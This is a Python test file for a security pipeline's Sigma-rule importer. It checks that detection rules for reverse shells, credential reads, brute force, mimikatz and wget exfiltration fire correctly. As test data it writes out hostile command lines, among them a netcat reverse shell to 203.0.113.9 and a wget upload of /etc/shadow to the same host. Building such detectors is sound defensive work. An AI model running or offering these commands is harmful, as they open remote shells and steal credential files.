"""Sigma import: public-style rules, correlations, and clear refusals."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from pipeline.rules.engine import DetectionEngine
from pipeline.rules.examples import example_event
from pipeline.rules.language import parse_rules_text
from pipeline.rules.sigma_import import SigmaImportError, import_sigma

DATA = Path(__file__).parents[1] / "data" / "sigma"


def _engine(name: str, **mapping: str) -> tuple[DetectionEngine, list[dict[str, object]]]:
    imported = import_sigma((DATA / name).read_text(), mapping)
    # What the importer writes must pass our own parser (and lint).
    ruleset = parse_rules_text(yaml.safe_dump({"rules": imported}), name)
    return DetectionEngine(ruleset, suppress_ms=0), imported


def _ids(engine: DetectionEngine, events: list[dict[str, object]]) -> list[str]:
    return [a.rule_id for a in engine.process([example_event(e, i) for i, e in enumerate(events)])]


def test_selection_modifiers_and_filter() -> None:
    engine, imported = _engine("lnx_reverse_shell.yml")
    assert imported[0]["severity"] == "high"
    assert imported[0]["tags"] == ["attack.execution", "attack.t1059"]
    shell = {"category": "process", "action": "exec", "object": "/usr/bin/nc"}
    assert _ids(engine, [{**shell, "actor": {"cmdline": "nc -e /bin/sh 203.0.113.9 4444"}}]) == [
        "sigma-8f1c6f4e-4a5b-4e3e-9d7a-2b1c0d9e8f7a"
    ]
    # The filter, the case-insensitivity of Sigma, and the wrong program.
    assert _ids(engine, [{**shell, "actor": {"cmdline": "nc -e /bin/sh 127.0.0.1 4444"}}]) == []
    assert _ids(engine, [{**shell, "object": "/USR/BIN/NC", "actor": {"cmdline": "nc -E x"}}])
    assert _ids(engine, [{**shell, "object": "/usr/bin/ls", "actor": {"cmdline": "ls -e x"}}]) == []


def test_re_cidr_and_temporal_ordered_correlation() -> None:
    engine, imported = _engine("lnx_credentials.yml")
    ids = {r["id"] for r in imported}
    # Rules referenced by the correlation do not alert on their own (generate: false).
    assert ids == {"sigma-1a2b3c4d-0000-4000-8000-000000000002", "sigma-cred_then_metadata"}
    read = {"category": "file", "action": "read", "object": "/home/u/.ssh/id_ed25519", "ts": 0}
    metadata = {"category": "network", "action": "connect", "object": "169.254.169.254:80"}
    fired = _ids(engine, [read, {**metadata, "ts": 60_000}])
    assert sorted(fired) == [
        "sigma-1a2b3c4d-0000-4000-8000-000000000002",
        "sigma-cred_then_metadata",
    ]
    engine2, _ = _engine("lnx_credentials.yml")
    late = _ids(engine2, [read, {**metadata, "ts": 301_000}])
    assert "sigma-cred_then_metadata" not in late
    assert "sigma-1a2b3c4d-0000-4000-8000-000000000002" in late


def test_event_count_and_value_count_correlations() -> None:
    engine, imported = _engine("lnx_bruteforce_correlation.yml")
    kinds = {r["title"]: r["threshold"] for r in imported}
    assert kinds["SSH Brute Force"]["count"] == {"gte": 5}
    assert kinds["Password Spray"]["distinct"] == {"gte": 3, "field": "actor.user"}
    failures = [
        {
            "category": "auth",
            "action": "login",
            "outcome": "failure",
            "actor": {"user": f"u{i % 3}"},
            "ts": i * 1000,
        }
        for i in range(5)
    ]
    fired = _ids(engine, failures)
    assert sorted(fired) == [
        "sigma-2b3c4d5e-0000-4000-8000-000000000002",
        "sigma-2b3c4d5e-0000-4000-8000-000000000003",
    ]


@pytest.mark.parametrize(
    ("name", "message"),
    [
        (
            "unsupported_field.yml",
            "Sigma rule 'Original File Name Check' (3c4d5e6f-0000-4000-8000-000000000002): "
            "cannot map the field 'OriginalFileName'",
        ),
    ],
)
def test_what_cannot_be_mapped_is_refused_by_name(name: str, message: str) -> None:
    with pytest.raises(SigmaImportError) as caught:
        import_sigma((DATA / name).read_text())
    assert str(caught.value).startswith(message)


def test_an_extra_field_mapping_makes_it_importable() -> None:
    _, imported = _engine("unsupported_field.yml", OriginalFileName="attributes.original_name")
    assert "attributes.original_name" in str(imported[0]["condition"])


def test_a_keyword_search_looks_through_the_events_text() -> None:
    engine, imported = _engine("unsupported_keyword.yml")
    assert "text" in str(imported[0]["condition"])
    run = {"category": "process", "action": "exec", "object": "/tmp/m"}
    assert _ids(engine, [{**run, "actor": {"cmdline": "./MIMIKATZ.bin --dump"}}])
    assert _ids(engine, [{**run, "attributes": {"note": "saw mimikatz"}}])
    assert _ids(engine, [{**run, "actor": {"cmdline": "make test"}}]) == []


AUDITD_RULE = """
title: Data Exfiltration with Wget
id: 3c4d5e6f-0000-4000-8000-000000000010
status: test
logsource: {product: linux, service: auditd}
detection:
  selection:
    type: EXECVE
    a0: wget
    a1|startswith: '--post-file='
  condition: selection
level: medium
"""


def _auditd(argv: list[str]) -> list[dict[str, object]]:
    from pipeline.collect.sources.auditd import AuditdParser
    from tests.collect.sources.test_rules_by_source import as_auditd, exec_, parsed

    activity = exec_(*argv, exe=f"/usr/bin/{argv[0]}")
    return parsed(AuditdParser(tenant="acme", sandbox_id="sb-1"), as_auditd(activity))


def test_an_auditd_rule_reads_the_records_the_auditd_source_joined() -> None:
    imported = import_sigma(AUDITD_RULE)
    ruleset = parse_rules_text(yaml.safe_dump({"rules": imported}))
    engine = DetectionEngine(ruleset, suppress_ms=0)
    stolen = _auditd(["wget", "--post-file=/etc/shadow", "http://203.0.113.9/"])
    assert stolen[0]["attributes"]["auditd.execve.a0"] == "wget"
    assert [a.rule_id for a in engine.process(stolen)] == [imported[0]["id"]]
    assert engine.process(_auditd(["wget", "https://pypi.org/simple/"])) == []
    # The same command line from another source has no audit records: not this rule's.
    jsonl = {"category": "process", "action": "exec", "object": "/usr/bin/wget",
             "actor": {"cmdline": "wget --post-file=/etc/shadow http://203.0.113.9/"}}  # fmt: skip
    assert engine.process([example_event(jsonl, 0)]) == []


def test_initiated_means_this_host_opened_the_connection() -> None:
    rule = AUDITD_RULE.replace("service: auditd", "category: network_connection").replace(
        """    type: EXECVE
    a0: wget
    a1|startswith: '--post-file='""",
        """    DestinationHostname|endswith: .localto.net
    Initiated: 'true'""",
    )
    imported = import_sigma(rule)
    ruleset = parse_rules_text(yaml.safe_dump({"rules": imported}))
    out = {"category": "network", "action": "connect", "object": "a.localto.net:443"}
    inbound = {**out, "attributes": {"direction": "inbound"}}
    assert _ids(DetectionEngine(ruleset, suppress_ms=0), [out]) == [imported[0]["id"]]
    assert _ids(DetectionEngine(ruleset, suppress_ms=0), [inbound]) == []


def test_the_parent_process_fields_map_to_the_actor_parent_fields() -> None:
    rule = AUDITD_RULE.replace("service: auditd", "category: process_creation").replace(
        """    type: EXECVE
    a0: wget
    a1|startswith: '--post-file='""",
        """    ParentImage|endswith: /java
    ParentCommandLine|contains: -jar""",
    )
    imported = import_sigma(rule)
    ruleset = parse_rules_text(yaml.safe_dump({"rules": imported}))
    child = {"category": "process", "action": "exec", "object": "/bin/sh"}
    java = {"parent_process": "/usr/bin/java", "parent_cmdline": "java -jar app.jar"}
    assert _ids(DetectionEngine(ruleset, suppress_ms=0), [{**child, "actor": java}])
    assert _ids(DetectionEngine(ruleset, suppress_ms=0), [child]) == []
    # the v1 attributes say nothing: an event cannot claim a parent by attribute
    attributes = {"parent.exe": "/usr/bin/java", "parent.cmdline": "java -jar app.jar"}
    assert (
        _ids(DetectionEngine(ruleset, suppress_ms=0), [{**child, "attributes": attributes}]) == []
    )
